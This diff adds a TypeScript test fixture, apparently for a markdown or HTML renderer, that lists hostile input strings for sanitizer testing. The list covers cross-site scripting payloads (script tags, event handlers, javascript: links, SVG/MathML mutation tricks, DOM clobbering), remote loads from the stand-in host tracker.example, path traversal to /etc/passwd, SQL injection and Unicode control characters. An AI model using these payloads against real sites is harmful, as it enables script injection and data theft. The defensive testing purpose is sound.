@@ -1,0 +1,160 @@
+/**
+ * Texts that run something, fetch something, break out of where they stand or lead astray when
+ * they are taken for more than text. A page, an imported file or a colleague can send any of them.
+ *
+ * What runs sets `hostileRan`, and what is fetched comes from `tracker.example`: whoever shows
+ * these strings listens for both. To add one: a row.
+ */
+
+/** Runs in a page if it can. */
+const RUN = "globalThis.hostileRan=1";
+const FETCHED = "http://tracker.example/";
+
+export const HOSTILE_STRINGS = {
+	script: [
+		`<script>${RUN}</script>`,
+		`<ScRiPt >${RUN}</sCrIpT >`,
+		`<script src="${FETCHED}x.js"></script>`,
+		`<script type="module">import "${FETCHED}m.js"</script>`,
+		`</script><script>${RUN}</script>`,
+		`<scr<script>ipt>${RUN}</scr</script>ipt>`,
+		`<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+	],
+	handler: [
+		`<img src=x onerror=${RUN}>`,
+		`<img src="x" onerror="${RUN}" alt="x">`,
+		`<body onload=${RUN}>`,
+		`<details open ontoggle=${RUN}>x</details>`,
+		`<input autofocus onfocus=${RUN}>`,
+		`<video><source onerror=${RUN}></video>`,
+		`<marquee onstart=${RUN}>x</marquee>`,
+		`<a href="http://x.example/" onclick="${RUN}" onmouseover="${RUN}">x</a>`,
+		`<p style="animation-name:x" onanimationstart=${RUN}>x</p>`,
+		`<button popovertarget=x>x</button><p popover id=x onbeforetoggle=${RUN}>`,
+	],
+	link: [
+		`[x](javascript:${RUN})`,
+		`[x](JaVaScRiPt:${RUN})`,
+		`[x](java\tscript:${RUN})`,
+		`[x](&#106;avascript:${RUN})`,
+		`[x](javascript&colon;${RUN})`,
+		`[x](\u0001javascript:${RUN})`,
+		`<javascript:${RUN}>`,
+		`[x](vbscript:msgbox)`,
+		`[x](data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLmhvc3RpbGVSYW49MTwvc2NyaXB0Pg==)`,
+		`[x](data:text/html,<script>${RUN}</script>)`,
+		`<a href="javascript:${RUN}">x</a>`,
+		`<a href=" javascript:${RUN}">x</a>`,
+		`[x](file:///etc/passwd)`,
+		`[x](blob:http://x.example/1)`,
+		`[x](chrome://settings) [x](about:config) [x](moz-extension://x/)`,
+		`[x](//tracker.example/protocol)`,
+		`[x](\\\\tracker.example\\share)`,
+		`[x][ref]\n\n[ref]: javascript:${RUN}`,
+		`[http://bank.example](http://tracker.example/ "http://bank.example")`,
+		`[x](http://a.example/" onmouseover="${RUN})`,
+		`[x](<http://a.example/> "title" onclick=${RUN})`,
+		`[a](b) [c]: ${FETCHED}d`,
+	],
+	svg: [
+		`<svg onload=${RUN}>`,
+		`<svg><script>${RUN}</script></svg>`,
+		`<svg><image href="${FETCHED}i.png"/></svg>`,
+		`<svg><use href="${FETCHED}u.svg#x"/></svg>`,
+		`<svg><a xlink:href="javascript:${RUN}"><text y="9">x</text></a></svg>`,
+		`<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
+		`<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
+		`<math href="javascript:${RUN}">x</math>`,
+		`<svg><style><img src=x onerror=${RUN}></style></svg>`,
+	],
+	remote: [
+		`![x](${FETCHED}p.png)`,
+		`![x](${FETCHED}p.png "x" )`,
+		`![x][p]\n\n[p]: ${FETCHED}r.png`,
+		`<img src="${FETCHED}q.png" srcset="${FETCHED}s.png 2x">`,
+		`<link rel="stylesheet" href="${FETCHED}s.css">`,
+		`<link rel="prefetch" href="${FETCHED}f">`,
+		`<style>@import "${FETCHED}x.css"</style>`,
+		`<p style="background:url(${FETCHED}b.png)">x</p>`,
+		`<style>*{background:url("${FETCHED}c.png")}</style>`,
+		`<audio src="${FETCHED}a.ogg" autoplay></audio>`,
+		`<video poster="${FETCHED}v.png" src="${FETCHED}v.webm"></video>`,
+		`<picture><source srcset="${FETCHED}w.png"></picture>`,
+		`<table background="${FETCHED}t.png"><tr><td>x`,
+		`<a href="http://x.example/" ping="${FETCHED}ping">x</a>`,
+	],
+	frame: [
+		`<iframe src="${FETCHED}"></iframe>`,
+		`<iframe srcdoc="<script>parent.hostileRan=1</script>"></iframe>`,
+		`<object data="${FETCHED}o"></object>`,
+		`<embed src="${FETCHED}e">`,
+		`<base href="${FETCHED}">`,
+		`<meta http-equiv="refresh" content="0;url=${FETCHED}">`,
+		`<form action="${FETCHED}"><button>x</button></form>`,
+		`<form id=documentElement><input name=attributes><input name=parentNode>`,
+		`<template><img src=x onerror=${RUN}></template>`,
+		`<dialog open><form method=dialog><button>x</button></form></dialog>`,
+	],
+	breakout: [
+		`"><img src=x onerror=${RUN}>`,
+		`'><svg onload=${RUN}>`,
+		`" autofocus onfocus="${RUN}`,
+		`</title><script>${RUN}</script>`,
+		`</textarea><script>${RUN}</script>`,
+		`--><script>${RUN}</script><!--`,
+		`<!--><script>${RUN}</script>-->`,
+		`]]><script>${RUN}</script>`,
+		`</style></template></svg><img src=x onerror=${RUN}>`,
+		`\${${RUN}}{{${RUN}}}<%= ${RUN} %>`,
+		`<x is="galley-x" slot="x" part="x" popover>x</x>`,
+		`<![CDATA[<img src=x onerror=${RUN}>]]>`,
+		`&lt;img src=x onerror=${RUN}&gt;`,
+		`<img src=x onerror=globalThis.trustedTypes.createPolicy("default",{createHTML:x=>x})>`,
+		`<a id=trustedTypes></a><a id=trustedTypes name=createPolicy></a>`,
+	],
+	structure: [
+		"---\ntitle: not front matter\n---",
+		"---",
+		"News\n====",
+		"Tools\n=====\n\nNot a section.",
+		"# x\n\n## y #\n\n    code\n\n```\nnever closed",
+		">From here\nFrom there\n>>From both",
+		"<!-- item -->\n\n<!-- sponsor 99 -->\n\n<!-- never closed",
+		"title: {date:yyyy} {number} {published:'",
+		"a\r\nb\rc\u2028d\u2029e",
+		"Ends like an item:\n\n[https://looks.example/](https://looks.example/)",
+		"~~~\n```\n~~~~",
+	],
+	characters: [
+		"mixed \u202eright to left\u202c and \u2066isolated\u2069",
+		"zero\u200bwidth\u200djoined\ufeff\u00ad",
+		"half \ud83d of a pair \udc00",
+		"nul\0byte and \u0001control\u001b[31m",
+		`${"e\u0301\u0302\u0303".repeat(40)}`,
+		"ﷺ".repeat(50),
+		"אבג https://אבג.example/ العربية",
+		"\u{1F468}\u200d\u{1F469}\u200d\u{1F467}",
+		"x".repeat(5_000),
+		`http://long.example/${"a/".repeat(1_500)}`,
+	],
+	names: [
+		"__proto__",
+		"constructor",
+		"hasOwnProperty toString valueOf",
+		"[object Object] undefined null NaN",
+		"http://constructor/ http://__proto__/",
+		"$1 $& $` $$ $ARG$ %s %d {0} &amp; &&",
+		"__MSG_extensionName__ @@extension_id",
+		"../../etc/passwd",
+		"CON.md:stream\\..\\x",
+		"'; DROP TABLE items; --",
+	],
+} as const satisfies Record<string, readonly string[]>;
+
+/** All of them. */
+export const ALL_HOSTILE: readonly string[] = Object.values(HOSTILE_STRINGS).flat();
+
+/** As they can stand on one line: in a title, a heading, an attribute. */
+export const HOSTILE_LINES: readonly string[] = ALL_HOSTILE.map((text) =>
+	text.replace(/[\r\n\u2028\u2029]+/g, " "),
+);
